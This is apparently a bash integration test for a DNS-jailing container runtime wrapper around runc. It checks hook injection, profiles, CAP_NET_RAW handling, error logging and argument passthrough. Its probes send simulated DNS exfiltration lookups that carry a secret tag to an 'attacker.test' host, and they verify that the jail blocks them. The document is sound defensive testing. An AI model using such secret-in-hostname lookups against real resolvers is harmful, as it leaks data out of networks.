#!/bin/bash
# runtime-wrapper.sh: dnsjail-runtime in front of runc, called the way Docker and containerd
# call a runtime. A bundle without hooks (what those engines write) comes out jailed; a bundle
# that already has the hook (hooks.d) is left byte for byte as it was; a config.json the
# wrapper cannot parse fails the create with one line, in the --log file in runc's format too,
# and no container exists; every other command reaches the runtime untouched, with its output
# and exit code. --profile jails with the admin's named policy. Positive control: the same wrapper with io.dnsjail.enable=false lets the
# name reach the canary.
# shellcheck source-path=SCRIPTDIR source=world.sh
. "$(dirname "$0")/world.sh"
world_require runc dnsmasq dig sha256sum
world_require_build
world_up
world_dnsjail_conf || tap_bail "cannot write the dnsjail configuration"
BASE_CONF=$W_CONF # world_dnsjail_conf --file below points W_CONF at its file: back to this one

W_RUNTIME=$top_builddir/runtime/dnsjail-runtime
RUNC=$(command -v runc)
[ -x "$W_RUNTIME" ] || tap_bail "no $W_RUNTIME (build first)"

# The wrapper, as an engine would run it: its own options, then runc's global flags.
wrap_cmd() {
    timeout -k 5 90 nsenter --net="$W_HOSTNS_PATH" "$W_RUNTIME" --config "$W_CONF" \
        --hook-binary "$W_HOOK" --runtime-binary "$RUNC" --root "$W_TMP/runc" "$@"
}
wrap_run() { # ID BUNDLE
    W_CONTAINERS+=("runc $1")
    _run_capture "$1" wrap_cmd run --bundle "$2" "$1"
}
# The dnsjail hooks in STAGE of BUNDLE's config.json: "PATH ARGS..." per line.
hooks_of() { # BUNDLE STAGE
    /usr/bin/python3 -c 'import json, sys
for h in json.load(open(sys.argv[1])).get("hooks", {}).get(sys.argv[2], []):
    if h["path"].endswith("/dnsjail-hook"): print(h["path"], *h.get("args", []))' \
        "$1/config.json" "$2"
}
probe() { # TAG LABEL
    echo "dns|$2|secret-$1-$2.attacker.test|A|-|udp"
}

tap_plan 65

# ---- a bundle as Docker writes it: no hooks ------------------------------------------------
tag=$(world_random)
world_ctns wrap || tap_bail "cannot make a namespace"
NS=$W_NS
id=$W_ID-w-jailed
b=$(world_bundle "$id" --netns "$NS" --annotation io.dnsjail.enable=true -- \
    /usr/bin/python3 /probe.py "$(probe "$tag" dns_resolv)") || tap_bail "cannot make bundle $id"
tap_check "the bundle starts without a dnsjail hook" test -z "$(hooks_of "$b" prestart)"
wrap_run "$id" "$b"
tap_check "run through dnsjail-runtime: the container ran (exit 0)" test "$RUN_RC" -eq 0 || _show_run
tap_check "... its name was answered by the stub (6.6.6.6)" \
    probe_is "$RUN_OUT" dns_resolv answers "A:6.6.6.6" || _show_run
tap_check "... and the canary resolver never saw it" canary_none_dns "secret-$tag-dns_resolv"
tap_check "... the hook logged the query with the container id" \
    log_has_query "$id" "secret-$tag-dns_resolv.attacker.test" || tap_diag_file "$W_LOG" 10
tap_check_out "config.json got the prestart hook with the wrapper's --config" \
    "$W_HOOK dnsjail-hook --config $W_CONF prestart" "$(hooks_of "$b" prestart)"
tap_check_out "... and the poststop hook" \
    "$W_HOOK dnsjail-hook --config $W_CONF poststop" "$(hooks_of "$b" poststop)"
assert_gone "wrapped run" "$id" "$NS"

# ---- positive control: the same path with the jail turned off lets the name out ------------
tag=$(world_random)
world_ctns wrapoff || tap_bail "cannot make a namespace"
id=$W_ID-w-off
b=$(world_bundle "$id" --netns "$W_NS" --annotation io.dnsjail.enable=false -- \
    /usr/bin/python3 /probe.py "$(probe "$tag" dns_resolv)") || tap_bail "cannot make bundle $id"
wrap_run "$id" "$b"
tap_check "control: enable=false through the wrapper runs" test "$RUN_RC" -eq 0 || _show_run
tap_check "control: ... and the canary answers and sees the name" \
    eval 'probe_is "$RUN_OUT" dns_resolv answers "A:203.0.113.7" && canary_saw_dns "secret-$tag-dns_resolv"' ||
    _show_run

# ---- a bundle that hooks.d already jailed: left alone, never hooked twice ------------------
tag=$(world_random)
world_ctns wrapdup || tap_bail "cannot make a namespace"
id=$W_ID-w-already
b=$(world_bundle "$id" --netns "$W_NS" --hook "$W_HOOK" --hook-config "$W_CONF" \
    --annotation io.dnsjail.enable=true -- /usr/bin/python3 /probe.py "$(probe "$tag" dns_resolv)") ||
    tap_bail "cannot make bundle $id"
before=$(sha256sum <"$b/config.json")
wrap_run "$id" "$b"
tap_check "already hooked: the container ran jailed" \
    eval 'test "$RUN_RC" -eq 0 && probe_is "$RUN_OUT" dns_resolv answers "A:6.6.6.6"' || _show_run
tap_check_out "... and config.json is byte for byte what it was" "$before" \
    "$(sha256sum <"$b/config.json")"
tap_check_out "... with one dnsjail prestart hook" 1 "$(hooks_of "$b" prestart | wc -l)"
assert_gone "already hooked" "$id"

# ---- Docker's sequence: create (with --log), start, delete ---------------------------------
tag=$(world_random)
world_ctns wrapseq || tap_bail "cannot make a namespace"
NS=$W_NS
id=$W_ID-w-seq
b=$(world_bundle "$id" --netns "$NS" --annotation io.dnsjail.enable=true -- \
    /usr/bin/python3 /probe.py "$(probe "$tag" dns_resolv)") || tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
out=$W_TMP/out/$id.out
wrap_cmd --log "$b/log.json" --log-format json create --bundle "$b" --pid-file "$b/pid" "$id" \
    </dev/null >"$out" 2>"$W_TMP/out/$id.err"
tap_check "create (Docker's arguments): exit 0" test $? -eq 0 || tap_diag_file "$W_TMP/out/$id.err"
tap_check "... the container is created, with its pid file" \
    eval 'wrap_cmd state "$id" | grep -q "\"status\": \"created\"" && test -s "$b/pid"'
tap_check "start: exit 0" wrap_cmd start "$id"
tap_check "the container ran to its end" \
    wait_until 20 eval 'wrap_cmd state "$id" | grep -q "\"status\": \"stopped\""'
tap_check "... and its name was answered by the stub" probe_is "$out" dns_resolv answers "A:6.6.6.6" ||
    tap_diag_file "$out"
tap_check "delete: exit 0" wrap_cmd delete "$id"
tap_check "... the container is gone" eval '! wrap_cmd state "$id" >/dev/null 2>&1'
assert_gone "create/start/delete" "$id" "$NS"

# ---- a config.json it cannot understand: no container, one line where Docker looks --------
id=$W_ID-w-bad
b=$(world_bundle "$id" --netns "$NS" -- /bin/true) || tap_bail "cannot make bundle $id"
printf '{"hooks": {"prestart": {"oops": 1}}, "ociVersion": "1.0.2"}' >"$b/config.json"
before=$(sha256sum <"$b/config.json")
W_CONTAINERS+=("runc $id")
wrap_cmd --log "$b/log.json" --log-format json create --bundle "$b" "$id" </dev/null \
    >/dev/null 2>"$W_TMP/out/$id.err"
rc=$?
tap_check "unparseable config.json: create fails (exit $rc)" test "$rc" -ne 0
tap_check_out "... with one line on stderr" 1 "$(wc -l <"$W_TMP/out/$id.err")"
tap_check "... which says the container was not created and why" \
    grep -q "not jailed, container not created: .*config.json: a hook stage is not an array" \
    "$W_TMP/out/$id.err" || tap_diag_file "$W_TMP/out/$id.err"
tap_check "... the --log file holds it in runc's JSON format" \
    /usr/bin/python3 -c 'import json, sys
r = json.loads(open(sys.argv[1]).read().splitlines()[-1])
sys.exit(0 if r["level"] == "error" and "not an array" in r["msg"] and r["time"] else 1)' "$b/log.json"
tap_check "... no container exists" eval '! wrap_cmd state "$id" >/dev/null 2>&1'
tap_check_out "... and config.json is untouched" "$before" "$(sha256sum <"$b/config.json")"
rm -f "$b/log.json"
wrap_cmd --log "$b/log.json" --log-format text create --bundle "$b" "$id" </dev/null \
    >/dev/null 2>&1
tap_check "with --log-format text: a logrus line with level=error" \
    grep -q '^time="[^"]*" level=error msg="not jailed, container not created: ' "$b/log.json" ||
    tap_diag_file "$b/log.json"

# ---- a profile: what Docker's runtimeArgs ["--profile", "db"] give ------------------------
# default-enable = false, so only the profile jails; its one rule lets 203.0.113.9:9999 through.
world_dnsjail_conf --file "$W_TMP/profile.conf" "default-enable = false" \
    "profile.db.allow = 203.0.113.9/32:9999" || tap_bail "cannot write the profile configuration"
PROFILE_CONF=$W_CONF
W_CONF=$BASE_CONF
wrap_profile_cmd() { # PROFILE RUNTIME-ARGS...
    local profile=$1
    shift
    timeout -k 5 90 nsenter --net="$W_HOSTNS_PATH" "$W_RUNTIME" --config "$PROFILE_CONF" \
        --profile "$profile" --hook-binary "$W_HOOK" --runtime-binary "$RUNC" \
        --root "$W_TMP/runc" "$@"
}
tag=$(world_random)
world_ctns wrapprof || tap_bail "cannot make a namespace"
NS=$W_NS
id=$W_ID-w-profile
b=$(world_bundle "$id" --netns "$NS" -- /usr/bin/python3 /probe.py \
    "tcp|tcp9999|203.0.113.9|9999|tok-$tag-p9999" "tcp|tcp22|192.0.2.1|22|tok-$tag-p22" \
    "$(probe "$tag" dns_resolv)") || tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
_run_capture "$id" wrap_profile_cmd db run --bundle "$b" "$id"
tap_check "--profile db: the container ran (exit 0)" test "$RUN_RC" -eq 0 || _show_run
tap_check_out "... the hooks got --profile db" \
    "$W_HOOK dnsjail-hook --config $PROFILE_CONF --profile db prestart" "$(hooks_of "$b" prestart)"
tap_check "... jailed although default-enable = false: its name answered by the stub" \
    probe_is "$RUN_OUT" dns_resolv answers "A:6.6.6.6" || _show_run
tap_check "... and port 22 refused" probe_isnt "$RUN_OUT" tcp22 status connected || _show_run
tap_check "... the profile's rule let 203.0.113.9:9999 through to the canary" \
    eval 'probe_is "$RUN_OUT" tcp9999 status connected && wait_until 5 canary_saw_net "tok-$tag-p9999"' ||
    _show_run
assert_gone "--profile db" "$id" "$NS"

id=$W_ID-w-profile-off
b=$(world_bundle "$id" --netns "$NS" --annotation io.dnsjail.enable=false -- /bin/true) ||
    tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
_run_capture "$id" wrap_profile_cmd db run --bundle "$b" "$id"
tap_check "--profile db with io.dnsjail.enable=false: refused, saying the profile cannot be switched off" \
    eval 'test "$RUN_RC" -ne 0 && grep -q "profile db jails every container" "$RUN_ERR"' || _show_run
id=$W_ID-w-profile-nope
b=$(world_bundle "$id" --netns "$NS" -- /bin/true) || tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
_run_capture "$id" wrap_profile_cmd nope run --bundle "$b" "$id"
tap_check "--profile nope: refused, no such profile" \
    eval 'test "$RUN_RC" -ne 0 && grep -q "no such profile" "$RUN_ERR"' || _show_run
id=$W_ID-w-profile-dup
b=$(world_bundle "$id" --netns "$NS" --hook "$W_HOOK" --hook-config "$PROFILE_CONF" -- /bin/true) ||
    tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
_run_capture "$id" wrap_profile_cmd db run --bundle "$b" "$id"
tap_check "--profile on a bundle hooks.d already hooked: refused, pointing at io.dnsjail.profile" \
    eval 'test "$RUN_RC" -ne 0 && grep -q "would not get --profile db.*io.dnsjail.profile" "$RUN_ERR"' ||
    _show_run

# ---- Docker's default CAP_NET_RAW: refused with the key named, or dropped with the key -------
# A bundle holding CAP_NET_RAW as Docker's do; the container prints its bounding set.
raw_bundle() { # ID
    world_bundle "$1" --netns "$NS" --add-cap CAP_NET_RAW:bounding --add-cap CAP_NET_RAW:effective \
        --add-cap CAP_NET_RAW:permitted -- /usr/bin/python3 -c \
        'print("capbnd", [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapBnd")][0])'
}
tag=$(world_random)
id=$W_ID-w-raw
b=$(raw_bundle "$id") || tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
_run_capture "$id" wrap_cmd run --bundle "$b" "$id"
tap_check "CAP_NET_RAW without drop-cap-net-raw: refused, the key named" \
    eval 'test "$RUN_RC" -ne 0 && grep -q "holds CAP_NET_RAW.*drop-cap-net-raw" "$RUN_ERR"' || _show_run
tap_check "... and it never ran" eval '! grep -q capbnd "$RUN_OUT"'
world_dnsjail_conf --file "$W_TMP/dropraw.conf" "drop-cap-net-raw = true" ||
    tap_bail "cannot write the drop-cap-net-raw configuration"
W_CONF=$BASE_CONF
id=$W_ID-w-raw2
b=$(raw_bundle "$id") || tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
_run_capture "$id" timeout -k 5 90 nsenter --net="$W_HOSTNS_PATH" "$W_RUNTIME" \
    --config "$W_TMP/dropraw.conf" --hook-binary "$W_HOOK" --runtime-binary "$RUNC" \
    --root "$W_TMP/runc" run --bundle "$b" "$id"
tap_check "with drop-cap-net-raw: the container runs jailed" test "$RUN_RC" -eq 0 || _show_run
tap_check "... without CAP_NET_RAW (bit 13) in its bounding set" \
    eval 'v=$(awk "/^capbnd/ {print \$2}" "$RUN_OUT"); [ -n "$v" ] && [ $((0x$v & 0x2000)) -eq 0 ]' ||
    _show_run
tap_check_out "... and none left in config.json" 0 "$(grep -c CAP_NET_RAW "$b/config.json")"

# ---- containerd without pod_annotations: a Kubernetes container with none of ours, said ------
id=$W_ID-w-k8s
b=$(world_bundle "$id" --netns "$NS" --annotation io.kubernetes.cri.container-type=container \
    -- /bin/true) || tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
_run_capture "$id" wrap_cmd run --bundle "$b" "$id"
tap_check "a Kubernetes container without io.dnsjail.*: jailed by default-enable, and the log says the handler may lack pod_annotations" \
    eval 'test "$RUN_RC" -eq 0 && log_has_event jail_started "$id" && log_has_event no_pod_annotations "$id"' ||
    { _show_run; tap_diag_file "$W_LOG" 5; }
id=$W_ID-w-k8s-annotated
b=$(world_bundle "$id" --netns "$NS" --annotation io.kubernetes.cri.container-type=container \
    --annotation io.dnsjail.enable=true -- /bin/true) || tap_bail "cannot make bundle $id"
W_CONTAINERS+=("runc $id")
_run_capture "$id" wrap_cmd run --bundle "$b" "$id"
tap_check "... with an io.dnsjail.* annotation: no such line (after its jail_started)" \
    eval 'test "$RUN_RC" -eq 0 && log_has_event jail_started "$id" && ! log_has_event no_pod_annotations "$id"' ||
    _show_run

# ---- every other command goes through untouched --------------------------------------------
# A stand-in runtime that prints its arguments: what the wrapper passes is exactly what the
# engine gave it, minus the wrapper's own options; and the configuration's `runtime` key picks it.
FAKE=$W_TMP/fake-runtime
printf '#!/bin/sh\necho "fake-runtime $*"\nexit 7\n' >"$FAKE" && chmod 755 "$FAKE"
world_dnsjail_conf --file "$W_TMP/fake.conf" "runtime = $FAKE" ||
    tap_bail "cannot write the second configuration"
out=$("$W_RUNTIME" --config "$W_TMP/fake.conf" --root /r --log-format json state some-id)
rc=$?
tap_check_out "state: the runtime of the configuration's 'runtime' key gets exactly its arguments" \
    "fake-runtime --root /r --log-format json state some-id" "$out"
tap_check_out "... and its exit code is the wrapper's" 7 "$rc"
b=$(world_bundle "$W_ID-w-fake" -- /bin/true) || tap_bail "cannot make a bundle"
out=$("$W_RUNTIME" --config "$W_TMP/fake.conf" --hook-binary "$W_HOOK" -root /r create \
    --console-socket /s -b "$b" --pid-file /p x)
tap_check_out "create: the same arguments, one-dash flags too" \
    "fake-runtime -root /r create --console-socket /s -b $b --pid-file /p x" "$out"
tap_check_out "... after the hooks went into the bundle named by -b" \
    "$W_HOOK dnsjail-hook --config $W_TMP/fake.conf prestart" "$(hooks_of "$b" prestart)"
tap_check_out "runc's own --version passes through" "$("$RUNC" --version)" \
    "$("$W_RUNTIME" --runtime-binary "$RUNC" --version)"
out=$("$W_RUNTIME" --config "$W_TMP/no-such-$tag.conf" state x 2>&1)
rc=$?
tap_check "a configuration that is not there: one line naming it, exit 1" \
    eval 'test "$rc" = 1 && test "$(printf "%s\n" "$out" | wc -l)" = 1 && grep -q "no-such-$tag.conf" <<<"$out"' ||
    tap_diag "$out"
tap_done
